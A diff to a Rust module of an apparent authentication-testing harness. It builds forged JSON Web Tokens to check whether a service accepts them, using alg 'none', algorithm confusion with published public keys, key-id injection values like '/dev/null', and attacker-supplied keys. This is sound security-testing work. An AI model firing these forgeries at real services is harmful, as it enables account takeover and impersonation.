@@ -1,38 +1,39 @@
-//! JSON Web Tokens that say of themselves how they want to be believed (RFC 8725 §2).
+//! JSON Web Tokens whose header says how to verify them (RFC 8725 §2).
 
 use std::time::Duration;
 
+use authlab_results::attacks::Outcome;
 use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
 use serde_json::{Value, json};
 use tokio::{net::TcpListener, time::timeout};
 
 use crate::{
     attack::{
+        attempt::{Attempt, Person},
         forge::{self, Hash, Token},
-        row::{Ended, Outcome},
+        row::Played,
         rows::tampering::leaked,
-        stage::{Person, Stage},
     },
     client::{expect::Failure, request::Request},
 };
 
 const NO_TOKEN: &str = "its credential has no header that could say anything";
 
-/// A key of the attacker's own.
+/// The attacker's key.
 const OWN_KEY: &[u8] = b"a key that the attacker has made for this very purpose";
 
-/// The victim, and the token taken apart; `None` where the credential is no JSON Web Token.
-async fn victim(stage: &Stage) -> Result<Option<(Person, Token)>, Failure> {
-    if !stage.is("token") {
+/// The victim, and their parsed token. `None` if the credential is no JSON Web Token.
+async fn victim(attempt: &Attempt) -> Result<Option<(Person, Token)>, Failure> {
+    if !attempt.is("token") {
         return Ok(None);
     }
-    let victim = stage.person("victim").await?;
+    let victim = attempt.person("victim").await?;
     let token = Token::parse(victim.credential.text());
     Ok(token.map(|token| (victim, token)))
 }
 
-async fn passes(stage: &Stage, victim: &Person, forgeries: Vec<String>, what: &str) -> Ended {
-    let mut forger = stage.somebody("forger");
+async fn passes(attempt: &Attempt, victim: &Person, forgeries: Vec<String>, what: &str) -> Played {
+    let mut forger = attempt.somebody("forger");
     for forgery in forgeries {
         if forger.taken_for(victim.forged(&forgery)).await?.is_some() {
             return Ok(Outcome::fell(what));
@@ -41,8 +42,8 @@ async fn passes(stage: &Stage, victim: &Person, forgeries: Vec<String>, what: &s
     Ok(Outcome::Held)
 }
 
-pub(super) async fn alg_none(stage: &mut Stage) -> Ended {
-    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+pub(super) async fn alg_none(attempt: &mut Attempt) -> Played {
+    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
     let (_, signature) = victim.credential.text().rsplit_once('.').unwrap_or_default();
     let mut forgeries = Vec::new();
     for alg in [json!("none"), json!("None"), json!("NONE"), json!("nOnE"), json!(""), Value::Null] {
@@ -50,34 +51,34 @@ pub(super) async fn alg_none(stage: &mut Stage) -> Ended {
         token.header["alg"] = alg;
         forgeries.extend([token.with_signature(""), token.with_signature(signature), token.signing_input()]);
     }
-    passes(stage, &victim, forgeries, "a token without a signature passes").await
+    passes(attempt, &victim, forgeries, "a token without a signature passes").await
 }
 
-pub(super) async fn another_algorithm(stage: &mut Stage) -> Ended {
-    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+pub(super) async fn another_algorithm(attempt: &mut Attempt) -> Played {
+    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
     let says = |alg: &str| {
         let mut token = genuine.clone();
         token.header["alg"] = json!(alg);
         token
     };
     let mut forgeries = Vec::new();
-    if let Some((_, key)) = leaked(stage, &victim) {
+    if let Some((_, key)) = leaked(attempt, &victim) {
         forgeries.push(says("HS384").signed(Hash::S384, &key));
         forgeries.push(says("HS512").signed(Hash::S512, &key));
         forgeries.push(says("hs256").signed(Hash::S256, &key));
     }
-    // A public key is known to everybody: as the secret of an HMAC it would let everybody sign.
-    let published = stage.somebody("forger").once(Request::get("/.well-known/jwks.json")).await?;
+    // A public key as the secret of an HMAC would let everybody sign.
+    let published = attempt.somebody("forger").once(Request::get("/.well-known/jwks.json")).await?;
     for public in public_keys(&published.json().unwrap_or_default()) {
         forgeries.push(says("HS256").signed(Hash::S256, &public));
     }
     for alg in ["RS256", "ES256", "EdDSA", "PS256", "HS256"] {
         forgeries.push(says(alg).signed(Hash::S256, OWN_KEY));
     }
-    passes(stage, &victim, forgeries, "a token that names another algorithm passes").await
+    passes(attempt, &victim, forgeries, "a token that names another algorithm passes").await
 }
 
-/// Each published key in the spellings in which it has been taken for a secret.
+/// Each published key, in the formats in which libraries have used it as a secret.
 fn public_keys(published: &Value) -> Vec<Vec<u8>> {
     let keys = published["keys"].as_array().into_iter().flatten();
     keys.flat_map(|key| {
@@ -88,8 +89,8 @@ fn public_keys(published: &Value) -> Vec<Vec<u8>> {
     .collect()
 }
 
-pub(super) async fn key_id_injection(stage: &mut Stage) -> Ended {
-    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+pub(super) async fn key_id_injection(attempt: &mut Attempt) -> Played {
+    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
     let ids = [
         json!(""),
         json!("/dev/null"),
@@ -111,11 +112,11 @@ pub(super) async fn key_id_injection(stage: &mut Stage) -> Ended {
     let mut without = genuine.clone();
     without.header.as_object_mut().map(|header| header.remove("kid"));
     forgeries.push(without.signed(Hash::S256, b""));
-    passes(stage, &victim, forgeries, "the key id chose the key").await
+    passes(attempt, &victim, forgeries, "the key id chose the key").await
 }
 
-pub(super) async fn bring_your_own_key(stage: &mut Stage) -> Ended {
-    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+pub(super) async fn bring_your_own_key(attempt: &mut Attempt) -> Played {
+    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
     let listener = TcpListener::bind("127.0.0.1:0").await.map_err(anyhow::Error::from)?;
     let address = listener.local_addr().map_err(anyhow::Error::from)?;
     let own = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode(OWN_KEY), "alg": "HS256"});
@@ -135,8 +136,8 @@ pub(super) async fn bring_your_own_key(stage: &mut Stage) -> Ended {
         }
         forgeries.push(token.signed(Hash::S256, OWN_KEY));
     }
-    let outcome = passes(stage, &victim, forgeries, "a key that the token brought along was believed").await?;
-    // Whoever fetches a key that a stranger names can also be made to fetch other things.
+    let outcome = passes(attempt, &victim, forgeries, "a key that the token brought along was believed").await?;
+    // A service that fetches a key from a URL in the token can be made to fetch other URLs.
     let fetched = timeout(Duration::from_millis(200), listener.accept()).await.is_ok();
     Ok(if fetched && outcome == Outcome::Held {
         Outcome::fell("a key was fetched from where the token said")
@@ -145,8 +146,8 @@ pub(super) async fn bring_your_own_key(stage: &mut Stage) -> Ended {
     })
 }
 
-pub(super) async fn other_formats(stage: &mut Stage) -> Ended {
-    let Some((victim, genuine)) = victim(stage).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
+pub(super) async fn other_formats(attempt: &mut Attempt) -> Played {
+    let Some((victim, genuine)) = victim(attempt).await? else { return Ok(Outcome::not_applicable(NO_TOKEN)) };
     let whole = victim.credential.text();
     let parts: Vec<&str> = whole.split('.').collect();
     let (header, payload, signature) = (parts[0], parts[1], parts.get(2).copied().unwrap_or_default());
@@ -156,7 +157,7 @@ pub(super) async fn other_formats(stage: &mut Stage) -> Ended {
         format!("{header}.{payload}.{signature}.{signature}.{signature}"),
         format!("{header}=.{payload}.{signature}"),
     ];
-    if let Some((_, key)) = leaked(stage, &victim) {
+    if let Some((_, key)) = leaked(attempt, &victim) {
         for (member, value) in [
             ("crit", json!(["exp"])),
             ("crit", json!(["x"])),
@@ -173,5 +174,5 @@ pub(super) async fn other_formats(stage: &mut Stage) -> Ended {
         // A token inside a token.
         forgeries.push(forge::sign(&forge::raw_input(&genuine.header.to_string(), whole), Hash::S256, &key));
     }
-    passes(stage, &victim, forgeries, "a token that asks for more than is understood passes").await
+    passes(attempt, &victim, forgeries, "a token that asks for more than is understood passes").await
 }
